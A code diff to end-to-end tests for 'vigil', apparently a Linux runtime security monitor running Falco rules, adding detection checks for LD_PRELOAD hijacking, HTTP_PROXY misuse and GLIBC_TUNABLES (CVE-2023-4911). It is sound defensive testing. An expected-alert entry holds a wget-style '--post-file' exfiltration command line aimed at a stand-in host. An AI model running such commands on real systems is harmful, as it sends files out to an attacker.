@@ -17,6 +17,7 @@
 #include <cerrno>
 #include <chrono>
 #include <cstdio>
+#include <cstdlib>
 #include <cstring>
 #include <thread>
 #include <set>
@@ -218,6 +219,9 @@ const std::vector<Expect> kExpected = {
      {{"proc.cmdline", "--post-file={dir}/exfil-{tag}.txt http://192.0.2.10:8080/"}}},
     {"Mount Over Process Directory", "Warning", {{"fs.path.target", "/proc/"}, {"proc.cmdline", "{dir}/hide-{tag}"}}},
     {"File Timestamp Set Into the Past", "Warning", {{"fd.name", "{dir}/atime-{tag}"}, {"fs.mtime.iso8601", "omit"}}},
+    // T1574.006: a compiled shared object preloaded into /bin/echo (proc.env, captured at exec)
+    {"Dynamic Linker Hijack Variable at Exec", "Warning",
+     {{"proc.env[LD_PRELOAD]", "{dir}/libhook-{tag}.so"}, {"proc.cmdline", "echo e2e-{tag}"}}},
 };
 
 std::string Describe(const SeenAlert& a) {
@@ -405,9 +409,12 @@ TEST_CASE("vigil events shows rmdir and setxattr events", "[root][e2e]") {
   const std::string file = dir + "/attr";
   std::ofstream(file) << "x";
   const long set = setxattr(file.c_str(), "user.vigil_e2e", "1", 1, 0);  // -1 where /tmp has no user.* attributes
-  bool rmdir_seen = false, xattr_seen = false;
+  // An exec's environment is recorded (proc.env: `vigil events` never narrows the capture).
+  const std::string env_entry = "VIGIL_E2E_ENV=" + std::to_string(getpid());
+  REQUIRE(std::system(("env " + env_entry + " /bin/true").c_str()) == 0);
+  bool rmdir_seen = false, xattr_seen = false, env_seen = false;
   const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(10);
-  while ((!rmdir_seen || !xattr_seen) && std::chrono::steady_clock::now() < until) {
+  while ((!rmdir_seen || !xattr_seen || !env_seen) && std::chrono::steady_clock::now() < until) {
     std::this_thread::sleep_for(std::chrono::milliseconds(200));
     std::ifstream in(out);
     std::string line;
@@ -419,6 +426,10 @@ TEST_CASE("vigil events shows rmdir and setxattr events", "[root][e2e]") {
           line.find("\"fd.name\":\"" + file + "\"") != std::string::npos &&
           line.find("\"fs.xattr\":\"user.vigil_e2e\"") != std::string::npos)
         xattr_seen = true;
+      if (line.find("\"evt.type\":\"execve\"") != std::string::npos &&
+          line.find("\"proc.exepath\":\"/usr/bin/true\"") != std::string::npos &&
+          line.find("\"" + env_entry + "\"") != std::string::npos && line.find("\"proc.env\":[") != std::string::npos)
+        env_seen = true;
     }
   }
   kill(pid, SIGINT);
@@ -427,6 +438,51 @@ TEST_CASE("vigil events shows rmdir and setxattr events", "[root][e2e]") {
   INFO("setxattr returned " << set);
   CHECK(rmdir_seen);
   CHECK(xattr_seen);
+  CHECK(env_seen);
   CHECK((WIFEXITED(status) && WEXITSTATUS(status) == 0));
   std::system(("rm -rf " + dir).c_str());
+}
+
+// Falco's two incubating rules that read proc.env fire under `vigil run -r
+// <Falco's files>` on the real action: curl run with HTTP_PROXY set (it
+// fails at once: nothing listens on 127.0.0.1:9) and a program started with
+// GLIBC_TUNABLES (CVE-2023-4911's variable).
+TEST_CASE("Falco's proc.env rules fire under vigil run -r falco rules", "[root][e2e]") {
+  REQUIRE(geteuid() == 0);
+  Scratch s;
+  REQUIRE(MakeScratch(&s) == "");
+  // Built-in path: the corpus next to the source tree; VIGIL_FALCO_RULES_DIR in
+  // the environment overrides it (a worktree elsewhere).
+  const char* falco_env = std::getenv("VIGIL_FALCO_RULES_DIR");
+  const std::string falco = falco_env != nullptr ? falco_env : VIGIL_FALCO_RULES_DIR;
+  std::vector<SeenAlert> alerts;
+  {
+    VigilProcess vigil(s.dir, {falco + "/falco_rules.yaml", falco + "/falco-incubating_rules.yaml",
+                               WriteSentinelRule(s.dir)});
+    const std::string started = vigil.Start();
+    if (!started.empty()) RemoveScratch(s);
+    REQUIRE(started == "");
+    const std::string proxy = "env HTTP_PROXY=http://127.0.0.1:9 curl -s --max-time 2 http://127.0.0.1:9/e2e-" + s.tag;
+    const std::string tunables = "env GLIBC_TUNABLES=glibc.malloc.check=0 /bin/echo e2e-" + s.tag + " >/dev/null";
+    std::printf("  curl with HTTP_PROXY: exit %d\n", std::system(proxy.c_str()));
+    std::printf("  echo with GLIBC_TUNABLES: exit %d\n", std::system(tunables.c_str()));
+    const std::string sentinel = AwaitSentinel(vigil, s.dir);
+    INFO(vigil.LogTail());
+    CHECK(sentinel == "");
+    CHECK(vigil.Stop() == "");
+    alerts = vigil.Alerts();
+  }
+  CHECK(RemoveScratch(s) == "");
+  auto fired = [&](const std::string& rule, const std::string& env) {
+    for (const auto& a : alerts)
+      if (a.rule == rule && a.Field("proc.cmdline").find("e2e-" + s.tag) != std::string::npos &&
+          a.Field("proc.env").find(env) != std::string::npos)
+        return true;
+    return false;
+  };
+  CHECK(fired("Program run with disallowed http proxy env", "HTTP_PROXY=http://127.0.0.1:9"));
+  CHECK(fired("Potential Local Privilege Escalation via Environment Variables Misuse",
+              "GLIBC_TUNABLES=glibc.malloc.check=0"));
+  for (const auto& a : alerts)
+    if (a.Field("proc.cmdline").find("e2e-" + s.tag) != std::string::npos) std::printf("    seen: %s\n", Describe(a).c_str());
 }
